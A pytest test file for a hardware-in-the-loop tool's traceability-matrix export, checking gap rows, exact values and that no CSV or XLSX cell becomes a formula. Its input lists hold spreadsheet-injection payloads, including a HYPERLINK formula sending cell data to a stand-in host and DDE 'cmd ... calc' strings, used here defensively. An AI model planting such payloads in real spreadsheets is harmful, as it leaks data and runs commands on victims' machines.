"""The traceability matrix: each chain is whole or its gap is a row; no cell is a formula."""

from __future__ import annotations

import csv
import io
import json
import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from framework.made_runs import HOSTILE, Run, current, every_verdict, requirement, treatment
from hil.bodies import asked_sha256, requirement_body
from hil.conclusion import conclude
from hil.exact import Exact
from hil.requirement import Kind, Limit
from hil_reports.evidence import read_journal
from hil_reports.matrix import COLUMNS, GAPS, matrix, matrix_csv, matrix_xlsx
from hil_reports.spreadsheet import Column, Sheet, csv_bytes, xlsx_bytes

FORMULAS = [
    '=HYPERLINK("http://x.example/?"&A1,"ok")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \u00a0=1+1",
    "\N{FULLWIDTH EQUALS SIGN}1+1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}SUM(1)",
]
STRINGS = [*FORMULAS, "\u202eevil", "a_x000D_b", "\x00\x1b[31m", '"; =1', "x" * 1_000_000, HOSTILE]
NAME = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def rows_of(folder: Path):
    records = read_journal(folder).records
    return matrix(conclude(records), records)


def read_csv(content: bytes):
    return list(csv.DictReader(io.StringIO(content.decode(), newline="")))


def read_xlsx(content: bytes, sheet: int):
    """Cells of a sheet by their place, each with how it is stored; a formula is refused."""
    book = zipfile.ZipFile(io.BytesIO(content))
    strings = [
        "".join(text.text or "" for text in each.iter(f"{NAME}t"))
        for each in ET.fromstring(book.read("xl/sharedStrings.xml"))
    ]
    cells = {}
    for cell in ET.fromstring(book.read(f"xl/worksheets/sheet{sheet}.xml")).iter(f"{NAME}c"):
        assert cell.find(f"{NAME}f") is None
        value = cell.find(f"{NAME}v").text
        kind = cell.get("t", "n")
        cells[cell.get("r")] = (kind, strings[int(value)] if kind == "s" else value)
    return cells


@pytest.fixture(scope="module")
def every(tmp_path_factory) -> Path:
    return every_verdict(tmp_path_factory.mktemp("every") / "run")


def test_each_measurement_leads_to_its_capture_and_to_its_line_of_the_journal(every):
    journal = (every / "data" / "journal.jsonl").read_text()
    lines = [json.loads(line) for line in journal.splitlines()]
    judged = {line["hash"]: line for line in lines if line["kind"] == "judgement"}
    measured = [row for row in rows_of(every) if row.get("record sha256")]
    assert {row["record sha256"] for row in measured} == judged.keys()
    for row in measured:
        line = judged[row["record sha256"]]
        body = line["body"]
        assert row["journal record"] == str(line["n"])
        assert (row["requirement"], row["test"]) == (body["requirement"], body["test"])
        if body["measured"]:
            assert row["captures sha256"].split() == body["measured"]["captures"]
            assert row["value (SI)"] == body["measured"]["value"]


def test_what_is_missing_from_the_chain_is_a_row(every):
    found = {(row["gap"], row.get("requirement", "")) for row in rows_of(every) if row.get("gap")}
    assert found >= {
        ("no test", "R-BARE"),
        ("never run", "R-NOVERDICT"),
        ("error", "R-ERROR"),
        ("inconclusive", "R-INCONCLUSIVE"),
        ("not evaluated", "R-NE"),
        ("no hazard", "R-PASS"),
    }
    assert {gap for gap, _ in found} <= GAPS.keys()
    whole = [row["requirement"] for row in rows_of(every) if not row.get("gap")]
    assert set(whole) == {"R-PASS", "R-FAIL", "R-NA", "R-WITHIN"}


def test_tests_that_judge_nothing_and_what_could_not_be_read_are_rows(tmp_path):
    run = Run(tmp_path / "run", [requirement("LIM-A", hazard="burn", control="limit")])
    run.collect({"m:test_a": ["LIM-A"], "m:test_lost": []}, errors=["m.py: SyntaxError"])
    run.test("m:test_a", "failed", "AssertionError")
    run.test("m:test_lost")
    found = [(row["gap"], row.get("test", ""), row["remark"]) for row in rows_of(run.end(1))]
    assert found == [
        ("not judged", "m:test_a", "LIM-A: NO VERDICT\nAssertionError"),
        ("orphan test", "m:test_lost", "judges no requirement"),
        ("not collected", "", "m.py: SyntaxError"),
    ]


def test_a_hazard_that_no_requirement_names_is_a_row(tmp_path):
    run = Run(tmp_path / "run", [requirement("LIM-A", hazard="burn")], hazards=["burn", "shock"])
    run.collect({"m:test_a": ["LIM-A"]})
    run.test("m:test_a", judged=[("LIM-A", current("0.004"), None, "")])
    found = [(row["gap"], row["hazard"]) for row in rows_of(run.end()) if row.get("gap")]
    assert found == [("error", "burn"), ("no requirement", "shock")]


@pytest.mark.parametrize("partial", ["", "only one suite"])
def test_what_was_asked_before_and_is_not_now_is_a_row(tmp_path, partial):
    kept, moved = requirement("LIM-A", hazard="burn"), requirement("LIM-B", hazard="burn")
    limit = Limit(Kind.AT_MOST, Exact.parse("4.3 mA"))
    earlier = [kept, replace(moved, limit=limit), requirement("LIM-C")]
    asked = {
        each.id: {"run_id": "before", "sha256": asked_sha256(requirement_body(each))}
        for each in earlier
    }
    run = Run(tmp_path / "run", [kept, moved], partial=partial)
    run.evidence.append("register", {"asked": asked})
    run.collect({"m:test_a": ["LIM-A", "LIM-B"]})
    gaps = {
        row["requirement"]: row["remark"]
        for row in rows_of(run.end())
        if row["gap"] in {"changed", "dropped"}
    }
    assert gaps.pop("LIM-B").startswith("run before judged it by another text, limit or rule: ")
    assert gaps.keys() == (set() if partial else {"LIM-C"})


def hostile_run(folder: Path) -> Path:
    """Each hostile string as title and hazard of a requirement."""
    made = [
        requirement(f"R-{place}", title=text, hazard=text) for place, text in enumerate(STRINGS)
    ]
    run = Run(folder, made)
    run.collect({"m:test_a": [each.id for each in made]})
    return run.end()


def test_no_cell_of_either_form_is_a_formula(tmp_path):
    folder = hostile_run(tmp_path / "run")
    rows = rows_of(folder)
    titles = [each["title"] for each in read_csv(matrix_csv(rows)) if each["requirement"] == "R-0"]
    assert titles == [f"'{FORMULAS[0]}"]
    for row in read_csv(matrix_csv(rows)):
        for cell in row.values():
            assert not re.match(r"\s*[=+\-@\uff1d\uff0b\uff0d\uff20]", cell), cell
            assert not re.search(r"[\n\r\t\x00\x1b\u202e]", cell)
            assert len(cell) < 5000
    cells = read_xlsx(matrix_xlsx(conclude(read_journal(folder).records), rows), 3)
    stored = [text for kind, text in cells.values() if kind == "s"]
    assert FORMULAS[0] in stored
    assert all(len(text) < 32_768 for text in stored)
    assert {kind for kind, _ in cells.values()} <= {"s", "n"}


def test_a_figure_is_exact_in_csv_and_a_number_in_xlsx(tmp_path):
    run = Run(tmp_path / "run", [requirement("LIM-A", hazard="burn")])
    run.collect({"m:test_a": ["LIM-A"]})
    taken = treatment()
    record = run.record("m:test_a", taken)
    run.test("m:test_a", judged=[("LIM-A", current("-0.00400312345678901", taken), None, record)])
    folder = run.end()
    rows = rows_of(folder)
    (row,) = read_csv(matrix_csv(rows))
    assert row["value (SI)"] == "-0.00400312345678901"
    cells = read_xlsx(matrix_xlsx(conclude(read_journal(folder).records), rows), 3)
    place = chr(ord("A") + [column.name for column in COLUMNS].index("value (SI)"))
    assert cells[f"{place}2"] == ("n", "-0.00400312345678901")


def test_a_workbook_says_which_run_it_is_of_and_that_it_is_simulated(every):
    records = read_journal(every).records
    conclusion = conclude(records)
    content = matrix_xlsx(conclusion, matrix(conclusion, records))
    about = [text for _, text in read_xlsx(content, 1).values()]
    assert conclusion.head in about
    assert "SIMULATED: every instrument is simulated" in about
    header = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet3.xml").decode()
    assert "&amp;LSIMULATED. Traceability matrix of run 20260301-093000-ab12" in header


@pytest.mark.parametrize("text", ["NaN", "Infinity", "1E+400", "1e-310", "=1", "1_0", ""])
def test_what_is_no_number_that_a_spreadsheet_holds_stays_text(text):
    made = datetime(2026, 3, 1, tzinfo=UTC)
    sheet = Sheet("s", [Column("n", 5, number=True)], [{"n": text}])
    cells = read_xlsx(xlsx_bytes([sheet], "t", made), 1)
    assert cells.get("A2", ("s", "")) == ("s", text)
    assert read_csv(csv_bytes(sheet))[0]["n"].lstrip("'") == text


def test_the_same_rows_make_the_same_bytes_whatever_the_time_is(every):
    records = read_journal(every).records
    conclusion = conclude(records)
    rows = matrix(conclusion, records)
    first = matrix_xlsx(conclusion, rows)
    assert matrix_xlsx(conclusion, rows) == first
    dated = zipfile.ZipFile(io.BytesIO(first)).read("docProps/core.xml").decode()
    assert "2026-03-01T09:30:00Z" in dated
    assert matrix_xlsx(replace(conclusion, head="0" * 64), rows) != first
